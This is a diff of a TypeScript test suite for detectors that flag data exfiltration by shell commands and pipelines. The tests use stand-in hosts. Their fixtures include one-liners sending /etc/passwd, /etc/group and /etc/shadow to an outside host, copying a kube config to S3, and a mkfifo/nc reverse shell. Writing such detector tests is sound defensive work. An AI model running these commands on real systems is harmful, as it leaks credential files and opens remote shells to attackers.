@@ -21,6 +21,7 @@ describe("data that leaves by a command", () => {
     'python3 -c \'import requests; requests.post("http://192.0.2.7", data=open("/etc/passwd"))\'',
     "python3 -m http.server 8000",
     "aws s3 cp /root/.kube/config s3://b/",
+    'php -r \'$d=file_get_contents("/etc/group");file_get_contents("http://192.0.2.7/?q=".$d);\'',
     "mail -s x eve@mail.example < /etc/shadow",
   ])("%s fires", (line) => {
     expect(grade(run(possibleDataLossCommand, [script(line)]))).toEqual(["medium"]);
@@ -28,6 +29,7 @@ describe("data that leaves by a command", () => {
 
   test.each([
     "rsync -a /srv/data backup@nas.example:/b",
+    "curl -T app.deb https://packages.example/upload/",
     "aws s3 sync ./dist s3://site",
     "curl -T build.tgz http://10.0.0.5/",
   ])("%s is dual use", (line) => {
@@ -39,6 +41,8 @@ describe("data that leaves by a command", () => {
     "curl -d @body.json https://api.example/",
     "curl -F f=@/etc/passwd http://localhost:8080/",
     "scp eve@192.0.2.7:/etc/passwd .",
+    "python3 -m http.server --help",
+    "mkfifo q; nc 192.0.2.7 80 < q | sh > q",
     "nc -zv 192.0.2.7 80",
     "dig +short x.example.net",
     "for h in a b; do dig $h.example.net; done",
@@ -68,6 +72,27 @@ describe("a pipeline typed at a prompt", () => {
     expect(run(possibleDataLossPipe, [cat(1000), nc(3001)])).toEqual([]);
     expect(run(possibleDataLossPipe, [cat(1000, 61), nc(1001)])).toEqual([]);
     expect(run(possibleDataLossPipe, [ran(["cat", "/proc/uptime"]), nc(1001)])).toEqual([]);
+  });
+
+  test("with a client whose arguments carry it, unless it is an API call beside a settings file", () => {
+    const beside = (file: string, client: string) =>
+      run(possibleDataLossPipe, [ran(["cat", file], { pid: 71 }), ran(client.split(" "), { pid: 72 }, 1500)]);
+    expect(beside("/etc/passwd", "whois -h 192.0.2.7 -p 43 x")).toHaveLength(1);
+    expect(beside("/etc/passwd", "curl -d x http://api.example/")).toHaveLength(1);
+    expect(beside("/srv/app/.env", "curl -d x http://api.example/")).toEqual([]);
+    expect(beside("/etc/passwd", "curl http://api.example/")).toEqual([]);
+  });
+
+  test("a client alone counts towards a public address, not beside a FIFO or a shell", () => {
+    const client = (line: string) => ran(line.split(" "), { pid: 72 }, 1500);
+    const tls = client("openssl s_client -quiet -connect 203.0.113.7:443");
+    expect(run(possibleDataLossPipe, [client("nc 203.0.113.7 80")])).toHaveLength(1);
+    expect(run(possibleDataLossPipe, [tls])).toHaveLength(1);
+    expect(run(possibleDataLossPipe, [client("openssl s_client -connect 203.0.113.7:443")])).toEqual([]);
+    expect(run(possibleDataLossPipe, [client("nc -vz 203.0.113.7 80")])).toEqual([]);
+    expect(run(possibleDataLossPipe, [client("nc 10.0.0.7 80")])).toEqual([]);
+    expect(run(possibleDataLossPipe, [ran(["mkfifo", "/tmp/q"]), tls])).toEqual([]);
+    expect(run(possibleDataLossPipe, [ran(["sh", "-i"]), tls])).toEqual([]);
   });
 
   test("into a shell's own socket is known by the connection", () => {
